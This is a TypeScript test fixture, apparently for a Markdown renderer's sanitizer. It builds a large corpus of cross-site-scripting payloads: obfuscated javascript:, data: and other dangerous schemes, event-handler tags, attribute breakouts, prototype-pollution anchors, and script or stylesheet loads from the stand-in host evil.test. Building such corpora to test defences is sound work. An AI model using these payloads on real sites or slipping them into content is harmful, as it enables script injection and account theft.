/**
 * Every spelling of a forbidden address in every place for an address, and raw HTML everywhere. A payload that works
 * calls `pwned()`.
 */
const SCRIPT = 'pwned()';

const SCHEMES = [
  'javascript',
  'JavaScript',
  'jAvAsCrIpT',
  'vbscript',
  'livescript',
  'mocha',
  'data',
  'blob',
  'file',
  'feed',
  'view-source',
  'ms-msdt',
  'smb',
  'intent',
  'chrome',
  'about',
];

const OBFUSCATIONS: ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:`,
  (scheme) => ` ${scheme}:`,
  (scheme) => `\u0001${scheme}:`,
  (scheme) => `\u00A0${scheme}:`,
  (scheme) => `\u200B${scheme}:`,
  (scheme) => `\u2028${scheme}:`,
  (scheme) => `\uFEFF${scheme}:`,
  (scheme) => `&#x20;${scheme}:`,
  (scheme) => `&#1;${scheme}:`,
  (scheme) => `&#0;${scheme}:`,
  (scheme) => `${scheme}&colon;`,
  (scheme) => `${scheme}&#58;`,
  (scheme) => `${scheme}&#x3a;`,
  (scheme) => `${scheme}&#x0003A;`,
  (scheme) => `${scheme}\\:`,
  (scheme) => `${scheme}%3A`,
  (scheme) => `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}&#9;${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}&#13;${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}\\\n${scheme.slice(3)}:`,
  (scheme) => `${[...scheme].map((letter) => `&#${letter.charCodeAt(0)};`).join('')}:`,
  (scheme) => `${[...scheme].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('')}&#58;`,
];

const PLACES: ((address: string) => string)[] = [
  (address) => `[link](${address})`,
  (address) => `[link](<${address}> "title")`,
  (address) => `![image](<${address}>)`,
  (address) => `[link][ref]\n\n[ref]: <${address}>`,
  (address) => `![image][ref]\n\n[ref]: <${address}>`,
  (address) => `<${address}>`,
  (address) => `[![image](<${address}>)](<${address}>)`,
  (address) => `note[^1]\n\n[^1]: [link](<${address}>)`,
  (address) => `| a |\n| - |\n| [link](<${address}>) |`,
  (address) => `# [link](<${address}>)`,
];

const ADDRESS_TAILS: Record<string, string> = { data: `text/html,<script>${SCRIPT}</script>` };

const TAGS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<script src="https://evil.test/x.js"></script>`,
  `<SCRIPT\n>${SCRIPT}</SCRIPT\n>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img src="x" onerror="${SCRIPT}" />`,
  `<img/src=x/onerror=${SCRIPT}>`,
  `<svg onload=${SCRIPT}></svg>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${SCRIPT}></mtext></math>`,
  `<math href="javascript:${SCRIPT}">x</math>`,
  `<iframe src="javascript:${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<object data="javascript:${SCRIPT}"></object>`,
  `<embed src="javascript:${SCRIPT}">`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}">`,
  `<link rel=stylesheet href="https://evil.test/x.css">`,
  `<style>@import 'https://evil.test/x.css';*{background:url(https://evil.test)}</style>`,
  `<form action="javascript:${SCRIPT}"><button>x</button></form>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}><summary>x</summary></details>`,
  `<video><source onerror=${SCRIPT}></video>`,
  `<audio src=x onerror=${SCRIPT}></audio>`,
  `<body onload=${SCRIPT}>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<a href="https://example.com" onclick="${SCRIPT}">x</a>`,
  `<div style="background:url(javascript:${SCRIPT})">x</div>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`,
  `<textarea></textarea><img src=x onerror=${SCRIPT}>`,
  `<xmp></xmp><img src=x onerror=${SCRIPT}>`,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<!-- --!><img src=x onerror=${SCRIPT}>`,
  `<![CDATA[><img src=x onerror=${SCRIPT}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${SCRIPT}>`,
  `<x-element is=script onclick=${SCRIPT}>x</x-element>`,
  `<p id=location name=cookie>x</p>`,
];

const TAG_PLACES: ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `text ${tag} text`,
  (tag) => `> ${tag}`,
  (tag) => `- ${tag}`,
  (tag) => `- [ ] ${tag}`,
  (tag) => `# ${tag}`,
  (tag) => `| a |\n| - |\n| ${tag.replaceAll('\n', ' ')} |`,
  (tag) => `note[^1]\n\n[^1]: ${tag}`,
  (tag) => `[${tag}](https://example.com)`,
  (tag) => `<div>\n${tag}\n</div>`,
  (tag) => tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (tag) => `\`\`\`html\n${tag}\n\`\`\``,
];

const BREAKOUTS: readonly string[] = [
  `[a](https://example.com "x" onclick="${SCRIPT}")`,
  `[a](https://example.com"onclick="${SCRIPT})`,
  `[a](<https://example.com/" onclick="${SCRIPT}>)`,
  `![a" onerror="${SCRIPT}](https://example.com/x.png)`,
  `![a](https://example.com/x.png "t\\" onerror=\\"${SCRIPT}")`,
  `\`\`\`"onmouseover="${SCRIPT}\ncode\n\`\`\``,
  `\`\`\`x"><img/src=x/onerror=${SCRIPT}>\ncode\n\`\`\``,
  `# "><img src=x onerror=${SCRIPT}>`,
  '# location',
  '# __proto__',
  '# constructor',
  '[constructor][__proto__]\n\n[__proto__]: javascript:pwned()\n\n[constructor]: javascript:pwned()',
  'a[^__proto__] b[^constructor]\n\n[^__proto__]: x\n[^constructor]: y',
  `<!-- end of definitions -->\n\n[x][y]\n\n[y]: javascript:${SCRIPT}`,
  `www.example.com"onclick="${SCRIPT}`,
  `https://example.com/"onmouseover="${SCRIPT}`,
  `xmpp:${SCRIPT}@example.com`,
  '//evil.test/x',
  '[a](//evil.test/x) [b](\\\\evil.test/x) ![c](//evil.test/x.png)',
  '![a](file:///etc/passwd) ![b](/relative.png) ![c](blob:x)',
];

export const HOSTILE_POSTS: readonly string[] = [
  ...SCHEMES.flatMap((scheme) =>
    OBFUSCATIONS.flatMap((obfuscate, index) => {
      const address = `${obfuscate(scheme)}${ADDRESS_TAILS[scheme.toLowerCase()] ?? SCRIPT}`;
      // All places for the scheme that executes, one each for the others.
      const places = scheme === 'javascript' ? PLACES : [PLACES[index % PLACES.length]];
      return places.flatMap((place) => place?.(address) ?? []);
    }),
  ),
  ...TAGS.flatMap((tag) => TAG_PLACES.map((place) => place(tag))),
  ...BREAKOUTS,
];
